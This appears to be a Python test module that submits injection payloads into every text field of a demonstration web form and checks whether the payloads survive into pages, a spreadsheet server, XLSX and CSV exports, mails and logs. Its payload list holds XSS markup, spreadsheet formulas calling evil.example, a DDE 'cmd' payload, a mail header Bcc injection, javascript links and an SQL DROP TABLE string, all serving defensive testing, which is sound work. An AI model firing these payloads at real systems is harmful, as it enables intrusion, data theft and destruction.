"""Markup, formulas, headers and templates typed into every field of a form, and looked for at every way out.

Takes the address of a running demonstration and that of its local Sheets server, and yields what was tried, the figure, and
whether it held.
"""

import csv
import html
import io
import json
import re
import secrets
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

from attack.session import PATIENCE, PAUSE, Page, Session
from attack.staff import Tried

FORM = "/es/aspiring_town"
MARKUP = '<script>alert("{mark}")</script><img src=x onerror=alert(1)>"\'><svg onload=alert(1)>'
PAYLOADS = (
    MARKUP,
    '=HYPERLINK("https://evil.example/{mark}","x")',
    '=IMPORTXML("https://evil.example/{mark}","//a")',
    "+1+cmd|' /C calc'!A0 {mark}",
    "@SUM(1) {mark}",
    "-2+3 {mark}",
    "{{{{ 7*7 }}}}{{% raw %}} {mark}",
    "{mark}\r\nBcc: victim@example.net\r\n\r\n<h1>body</h1>",
    "[{mark}](javascript:alert(1)) ![x](https://evil.example/{mark}.png)",
    "' OR 1=1; DROP TABLE submissions; -- {mark}",
    "\u202e{mark}\u2066",
)
ACTIVE = re.compile(
    r"""<script>|<(?:img|svg|h1)\b[^>]*(?:onerror|onload|>body)|(?:href|src)\s*=\s*["']?(?:javascript:|https://evil)""",
    re.IGNORECASE,
)
SEE_OTHER, UNPROCESSABLE, SERVER_ERROR = 303, 422, 500


def payloads(base: str, sheets: str, log: Path | None = None, patience: float = PATIENCE) -> Iterator[Tried]:
    """Sends each payload in each field that takes text; then looks at receipts, sheet, XLSX, CSV, mails and the program's log."""
    marks: list[str] = []
    answers: list[Page] = []
    receipts: list[Page] = []
    for payload in PAYLOADS:
        for name in _text_fields(base):
            mark = f"m{secrets.token_hex(6)}"
            page = _send(base, name, payload.format(mark=mark))
            answers.append(page)
            if page.status == SEE_OTHER:
                marks.append(mark)
                receipts.append(Session(base).get(page.location))
    known = sum(page.status in (SEE_OTHER, UNPROCESSABLE) for page in answers)
    yield "payloads in every field", f"{known} of {len(answers)} taken or refused with words", known == len(answers)
    yield _without_active("on the page", [*answers, *receipts])
    book = Session(sheets).get("/sheet").location
    arrived = _wait_for_rows(sheets, book, marks, patience)
    yield "accepted ones in the sheet", f"{arrived} of {len(marks)}", arrived == len(marks)
    yield from _sheet(sheets, book)
    yield _mails(base)
    if log is not None:
        words = log.read_text(errors="replace")
        told = sum(mark in words for mark in marks) + words.count("ana.mark@example.org")
        yield "in the program's log", f"{told} payloads or addresses", told == 0


def _text_fields(base: str) -> list[str]:
    page = Session(base).get(FORM).text
    names = re.findall(r'<input[^>]*name="(\w+)"[^>]*type="text"|<input[^>]*type="text"[^>]*name="(\w+)"', page)
    areas = re.findall(r'<textarea[^>]*name="(\w+)"', page)
    return sorted({first or second for first, second in names} | set(areas))


def _send(base: str, field: str, payload: str) -> Page:
    visitor = Session(base)
    form = visitor.get(FORM)
    fields = {
        **{name: form.hidden(name) for name in ("csrf_token", "key", "form_version")},
        "name": "Santa Rosa",
        "country": "Ecuador",
        "why": "Porque sí.",
        "contact_name": "Ana",
        "contact_office": "Alcaldía",
        "contact_email": "ana.mark@example.org",
        "contact_language": "es",
        "mayor_name": "Rosa",
        "consent": "y",
        field: payload,
    }
    return visitor.post(FORM, fields)


def _without_active(where: str, pages: list[Page]) -> Tried:
    active = sum(bool(ACTIVE.search(page.text)) for page in pages)
    return f"active {where}", f"{active} of {len(pages)}", active == 0


def _wait_for_rows(sheets: str, book: str, marks: list[str], patience: float) -> int:
    """How many of the marks stand in the sheet, once all do or time is up."""
    end = time.monotonic() + patience
    while True:
        text = _all_tabs(sheets, book)
        arrived = sum(mark in text for mark in marks)
        if arrived == len(marks) or time.monotonic() > end:
            return arrived
        time.sleep(PAUSE)


def _all_tabs(sheets: str, book: str) -> str:
    return "".join(Session(sheets).get(f"{book}/data?gid={tab['gid']}").text for tab in _tabs(sheets, book))


def _sheet(sheets: str, book: str) -> Iterator[Tried]:
    visitor, id = Session(sheets), book.rpartition("/")[2]
    whole = json.loads(visitor.get(f"/v4/spreadsheets/{id}?includeGridData=true").text)
    formulas = json.dumps(whole).count('"formulaValue": "=HYPERLINK') + json.dumps(whole).count(
        '"formulaValue": "=IMPORT'
    )
    yield "formulas in the sheet", str(formulas), formulas == 0
    workbook = zipfile.ZipFile(io.BytesIO(visitor.get(f"{book}/download.xlsx").content))
    parts = "".join(workbook.read(name).decode(errors="replace") for name in workbook.namelist())
    formulas = len(re.findall(r"<f>[^<]*(HYPERLINK|IMPORTXML|cmd|SUM\(1\))", parts))
    links = parts.count('Target="https://evil.example')
    yield "formulas and links in the XLSX", f"{formulas} and {links}", formulas + links == 0
    # A CSV file has no types: what a program makes of its cells is the program's. That rows stay rows is ours.
    ragged = sum(_ragged_rows(sheets, f"{book}/{tab['gid']}/download.csv") for tab in _tabs(sheets, book))
    yield "rows that a payload broke in the CSV", str(ragged), ragged == 0


def _tabs(sheets: str, book: str) -> list[dict[str, object]]:
    tabs: list[dict[str, object]] = json.loads(Session(sheets).get(f"{book}/data").text)["tabs"]
    return tabs


def _ragged_rows(sheets: str, path: str) -> int:
    rows = list(csv.reader(io.StringIO(Session(sheets).get(path).text, newline="")))
    return sum(len(row) != len(rows[0]) for row in rows)


def _mails(base: str) -> Tried:
    visitor = Session(base)
    names = re.findall(r'href="(/mailbox/[^"/?]+)"', visitor.get("/mailbox/").text)
    pages = [visitor.get(html.unescape(name)) for name in names] + [visitor.get(f"{name}/html") for name in names]
    to_victim = sum("victim@example.net" in line for page in pages for line in re.findall(r"<dd>[^<]*", page.text))
    tried, figure, held = _without_active("in mails", pages)
    return tried, f"{figure}, {to_victim} to a stranger", held and to_victim == 0
